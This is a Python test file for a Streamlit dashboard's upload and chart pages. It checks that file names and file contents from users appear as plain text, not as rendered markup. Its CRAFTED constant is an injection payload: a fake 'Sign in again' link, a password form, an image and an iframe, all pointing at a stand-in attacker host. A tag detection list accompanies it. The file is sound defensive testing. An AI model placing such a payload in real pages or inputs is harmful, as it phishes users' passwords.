"""Nothing from a file reaches the page as markup (issue 13 §4).

Each path that shows text a file or a person supplied (an upload's file name, a refused
file, a comparators file's area and source on a family page's caption, a DfE release's
file name on the upload page) is fed a crafted link, image, form and iframe. Every
markdown-rendering element the page drew is rendered as CommonMark (HTML allowed, as a
browser would be the worst case) and must contain no tag or attribute pointing at the
attacker's site.
"""

from __future__ import annotations

import io
from html.parser import HTMLParser

import openpyxl
import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from etl.benchmarks.releases import load_bytes
from etl.store.database import Store
from tests.pages.screens import app, screen
from ui import access

EVIL = "evil.example"
CRAFTED = (
    f"[Sign in again](https://{EVIL}/login) ![x](https://{EVIL}/p.png) "
    f'<form action="https://{EVIL}"><input name="password"></form>'
    f'<iframe src="https://{EVIL}"></iframe><a href="https://{EVIL}">here</a>'
)
TEXT_KINDS = ("markdown", "caption", "error", "warning", "info", "success")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("form", "iframe", "img", "input", "script") or any(
            EVIL in (value or "") for _, value in attrs
        ):
            self.bad.append(f"<{tag} {attrs}>")


def _markup_reaching_the_page(at: AppTest) -> list[str]:
    renderer = MarkdownIt("commonmark", {"html": True})
    bad: list[str] = []
    for kind in TEXT_KINDS:
        for element in at.get(kind):
            parser = _Tags()
            parser.feed(renderer.render(str(element.value)))
            bad += parser.bad
    return bad


def _all_text(at: AppTest) -> str:
    return "\n".join(str(e.value) for kind in TEXT_KINDS for e in at.get(kind))


@pytest.fixture
def db(sample_db: Store, monkeypatch: pytest.MonkeyPatch) -> Store:
    monkeypatch.setenv("CYPS_DB", str(sample_db.path))
    return sample_db


def _director(script: str) -> AppTest:
    at = app(script)
    at.session_state[access.DEMO_ROLE_KEY] = "director"
    return at.run()


def test_a_crafted_file_name_and_cell_are_shown_as_text_on_the_upload_page(db: Store) -> None:
    book = openpyxl.Workbook()
    book.active.title = "data"
    book.active.append(["indicator", "period", "value"])
    book.active.append([CRAFTED, "April 2016", CRAFTED])
    out = io.BytesIO()
    book.save(out)
    at = _director("pages/upload.py")
    at.file_uploader[0].set_value((f"{CRAFTED}.xlsx", out.getvalue(), XLSX)).run()
    assert not at.exception
    assert "Nothing was loaded" in _all_text(at)
    assert not _markup_reaching_the_page(at)


def test_a_file_that_is_no_spreadsheet_is_refused_with_its_name_as_text(db: Store) -> None:
    at = _director("pages/upload.py")
    at.file_uploader[0].set_value((f"{CRAFTED}.xlsx", b"not a workbook", XLSX)).run()
    assert "Nothing was loaded" in _all_text(at)
    assert not _markup_reaching_the_page(at)


def test_a_crafted_comparators_file_is_shown_as_text_on_the_upload_page(db: Store) -> None:
    at = _director("pages/upload.py")
    crafted = (
        "indicator,year,area,value,source\n"
        f'REF_24H,2015/16,"{CRAFTED.replace(chr(34), chr(39))}",88.0,'
        f'"{CRAFTED.replace(chr(34), chr(39))}"\n'
    ).encode()
    at.file_uploader[1].set_value([(f"{CRAFTED}.csv", crafted, "text/csv")]).run()
    at.button(key="benchmark_load").click().run()
    assert not at.exception
    assert not _markup_reaching_the_page(at)


def test_a_comparators_area_and_source_are_shown_as_text_under_the_chart(db: Store) -> None:
    quoted = CRAFTED.replace('"', "'")
    own = f'indicator,year,area,value,source\nREF_24H,2015/16,"{quoted}",88.0,"{quoted}"\n'
    with db.connect() as con:
        load_bytes(con, "club.csv", own.encode(), user="demo-director@example.invalid")
    at = screen("referrals")
    at.query_params["indicator"] = "Referrals responded to within 24 hours"
    at.run()
    assert not at.exception
    assert "Sign in again" in _all_text(at), "the crafted source is shown, as text"
    assert not _markup_reaching_the_page(at)
